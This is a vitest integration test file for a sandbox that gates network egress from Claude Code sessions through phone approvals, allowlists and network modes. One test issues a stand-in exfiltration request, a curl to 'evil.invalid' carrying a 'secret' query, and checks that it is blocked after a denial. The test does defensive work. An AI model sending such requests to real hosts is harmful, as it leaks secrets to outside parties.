/** The three kinds of network, a person's word on a host, and what a project may narrow; names end in .invalid, which nobody has. */
import { readFile, rm, writeFile } from 'node:fs/promises'
import { createServer as createHttpServer } from 'node:http'
import { type AddressInfo, connect, createServer, type Server } from 'node:net'
import { basename, join } from 'node:path'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { bridgeAddress } from '../bridge.ts'
import { createWorld, until, type World } from '../world.ts'

const scripts = {
  'push-once': [
    { tools: [{ name: 'Bash', input: { command: 'git push -q origin HEAD:main' } }] },
    { text: 'Pushed.' },
  ],
}

let world: World
let listed: Server
let listedPort: number

beforeAll(async () => {
  listed = createHttpServer((_, response) => response.end('from the host'))
  await new Promise<void>((resolve) => listed.listen(0, '127.0.0.1', resolve))
  listedPort = (listed.address() as AddressInfo).port
  world = await createWorld({ scripts })
})
afterAll(async () => {
  listed.close()
  await world.destroy()
})

/** Starts a session and waits until its relay answers. */
async function start(dir: string, ...options: string[]): Promise<string> {
  const name = basename(dir)
  const said = await world.rc('start', dir, '--no-attach', ...options)
  expect(said.exitCode, said.stderr).toBe(0)
  await until(`${name} to be up`, async () => (await inside(name, 'pgrep', 'claude')).exitCode === 0)
  return said.stderr
}

const askAbout = (host: string) =>
  until(`an ask about ${host}`, async () =>
    (await world.asks()).find(({ input, state }) => input['host'] === host && state === 'pending'),
  )

const inside = (name: string, ...command: string[]) => world.rc('shell', name, '--', ...command)
const curl = async (name: string, url: string) => (await inside(name, 'curl', '-sS', '-m', '60', url)).stdout

describe('a session that asks about hosts', () => {
  beforeAll(async () => {
    const config = await readFile(world.configFile, 'utf8')
    await writeFile(world.configFile, config.replace('network:', 'network:\n  ask: true'))
    await world.must('server', 'stop')
    await start(await world.project('curious'))
  })

  test('holds the connection until the phone says yes, and then does not ask again', async () => {
    const held = curl('curious', 'http://docs.invalid/')
    const ask = await askAbout('docs.invalid')
    expect(ask.input).toMatchObject({ host: 'docs.invalid', port: 80 })
    expect(String(ask.input['processes'])).toContain('curl -sS -m 60 http://docs.invalid/')
    await until('the push', async () => world.pushover.pushes.find((one) => one.url === ask.url))
    expect((await world.tap(ask.url ?? '', { answer: 'allow for session' })).status).toBeLessThan(400)
    expect(await held).toContain('docs.invalid could not be resolved')
    expect(await curl('curious', 'http://docs.invalid/')).toContain('could not be resolved')
    // Nor does Claude Code itself try hosts that a person would be bothered with.
    expect((await world.asks()).filter(({ kind }) => kind === 'domain')).toHaveLength(1)
  })

  test('refuses when the phone says no, and says so', async () => {
    const held = curl('curious', 'http://evil.invalid/?secret')
    const ask = await askAbout('evil.invalid')
    await world.tap(ask.url ?? '', { answer: 'deny' })
    expect(await held).toContain('Remote Claude blocked evil.invalid:80')
    expect(await held).toContain('you said no')
  })

  test('writes a host into the configuration after Always, and keeps what else stands there', async () => {
    const held = curl('curious', 'http://keep.invalid/')
    const ask = await askAbout('keep.invalid')
    await world.tap(ask.url ?? '', { answer: 'allow for always' })
    await held
    const config = () => readFile(world.configFile, 'utf8')
    await until('the host in the file', async () => (await config()).includes('- keep.invalid'), config)
    expect(await config()).toContain('sk-ant-test')
  })

  test('shows what it wanted to reach, counted', async () => {
    const shown = await world.must('logs', 'curious', '--egress')
    expect(shown).toMatch(/1\s+0\s+evil\.invalid:80/)
    expect(shown).toMatch(/2\s+0\s+docs\.invalid:80.*could not be resolved/)
  })
})

test("a project's own list takes hosts away and opens none", async () => {
  const dir = await world.project('narrow')
  await writeFile(
    join(dir, '.remote-claude.yaml'),
    'network: {allowed_domains: [other.invalid], mode: bridge}\n',
  )
  const said = await start(dir, '--allow', `host.docker.internal:${listedPort}`)
  expect(said).toContain('wider than yours and was not followed')
  expect(await curl('narrow', `http://host.docker.internal:${listedPort}/`)).toContain('.remote-claude.yaml')
  await writeFile(join(dir, '.remote-claude.yaml'), 'network: {allowed_domain: []}\n')
  const again = await world.rc('start', dir, '--no-attach', '--name', 'narrower')
  expect(again.exitCode).toBe(1)
  expect(again.stderr).toContain('.remote-claude.yaml')
})

test('what is listed is followed while a session runs, and what its project narrows once it is restarted', async () => {
  const url = `http://host.docker.internal:${listedPort}/`
  const project = await world.project('changing')
  const change = async (from: string | RegExp, to: string) =>
    await writeFile(world.configFile, (await readFile(world.configFile, 'utf8')).replace(from, to))
  const restart = async (): Promise<string> => {
    const said = await world.rc('restart', 'changing', '--force')
    expect(said.exitCode, said.stderr).toBe(0)
    await until('changing to be up', async () => (await inside('changing', 'pgrep', 'claude')).exitCode === 0)
    return said.stderr
  }
  await start(project)
  await change('ask: true', 'ask: false')
  expect(await curl('changing', url)).toContain('Remote Claude blocked')
  await change('allowed_domains:', `allowed_domains:\n    - host.docker.internal:${listedPort}`)
  expect(await curl('changing', url)).toBe('from the host')

  await writeFile(join(project, '.remote-claude.yaml'), 'network: {allowed_domains: [other.invalid]}\n')
  expect(await restart()).toContain('narrows this session')
  expect(await curl('changing', url)).toContain('.remote-claude.yaml')
  await writeFile(join(project, '.remote-claude.yaml'), 'network: {mode: none}\n')
  expect(await restart()).toContain('cannot reach its API')
  expect(await curl('changing', url)).toContain('mode none')
  await rm(join(project, '.remote-claude.yaml'))
  await restart()
  expect(await curl('changing', url)).toBe('from the host')
  expect(await world.must('status', 'changing')).toMatch(
    /hooks +open\n +egress +open: allowlist: \d+ entries of the configuration; others are refused\n/,
  )
})

test('mode none lets out nothing, not even to a listed host, and says why', async () => {
  const said = await start(await world.project('shut'), '--network', 'none')
  expect(said).toContain('cannot reach its API')
  expect(await curl('shut', `http://host.docker.internal:${world.model.port}/`)).toContain(
    'started without a network (mode none)',
  )
})

test('bridge is open by choice and keeps the hook door, the rules and all other locks', async () => {
  const gateway = await bridgeAddress()
  // The scripted model listens on loopback, which a container of this kind cannot reach.
  const door = createServer((socket) => {
    const model = connect(world.model.port, '127.0.0.1')
    socket.pipe(model).pipe(socket)
    for (const one of [socket, model]) one.on('error', () => {})
  })
  await new Promise<void>((resolve) => door.listen(0, gateway, resolve))
  try {
    const config = await readFile(world.configFile, 'utf8')
    const { port } = door.address() as AddressInfo
    await writeFile(
      world.configFile,
      config.replace(/ANTHROPIC_BASE_URL: .*/, `ANTHROPIC_BASE_URL: http://${gateway}:${port}`),
    )
    const dir = await world.project('open')
    const { stderr } = await world.rc('start', dir, '--no-attach', '--network', 'bridge', '-p', 'push-once')
    expect(stderr).toContain('the network is open')
    const ask = await world.ask({ session: 'open', kind: 'permission', state: 'pending' })
    await world.tap(ask.url ?? '', { answer: 'allow' })
    await until('the push to arrive', () => world.pushed(dir))
    const status = (await inside('open', 'cat', '/proc/self/status')).stdout
    expect(status).toMatch(/CapEff:\t0+\n/)
    expect(status).toMatch(/NoNewPrivs:\t1/)
    expect((await inside('open', 'touch', '/usr/x')).stderr).toContain('Read-only')
  } finally {
    door.close()
  }
})
